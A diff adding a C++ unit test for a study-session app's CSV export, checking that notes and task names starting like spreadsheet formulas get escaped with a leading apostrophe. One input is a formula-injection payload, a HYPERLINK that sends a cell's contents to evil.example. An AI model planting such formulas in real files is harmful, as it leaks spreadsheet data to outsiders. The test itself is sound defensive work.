@@ -84,6 +84,31 @@ TEST_F(CsvText, RowsAreOldestFirstQuotedAndWithoutATrailingLineFeed) {
     EXPECT_EQ(CsvExport::csvText({early, late, middle}), expected);
 }
 
+TEST_F(CsvText, TextThatStartsLikeAFormulaIsWrittenAsText) {
+    const QStringList risky = {
+        QStringLiteral("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")"),
+        QStringLiteral("+1+1"),
+        QStringLiteral("-2"),
+        QStringLiteral("@SUM(A1)"),
+        QStringLiteral("\t=1"),
+        QStringLiteral("\r=1")};
+    for (const QString& text : risky) {
+        StudySession s = session(utc(2026, 3, 5, 8, 30), 60);
+        s.taskName = QStringLiteral("x");
+        s.note = text;
+        QString quoted = text;
+        quoted.replace(QLatin1Char('"'), QStringLiteral("\"\""));
+        EXPECT_TRUE(CsvExport::csvText({s}).endsWith(QStringLiteral(",\"'") + quoted + '"'))
+            << "note " << text.toStdString();
+        s.note = QStringLiteral("a ") + text;
+        EXPECT_TRUE(CsvExport::csvText({s}).endsWith(QStringLiteral(",\"a ") + quoted + '"'))
+            << "only at the start";
+    }
+    StudySession named = session(utc(2026, 3, 5, 8, 30), 60);
+    named.taskName = QStringLiteral("=1+1");
+    EXPECT_TRUE(CsvExport::csvText({named}).contains(QStringLiteral(",\"'=1+1\",")));
+}
+
 TEST_F(CsvText, EqualStartTimesKeepTheirListOrder) {
     const QDateTime start = utc(2026, 3, 5, 8, 30);
     QList<StudySession> sessions;
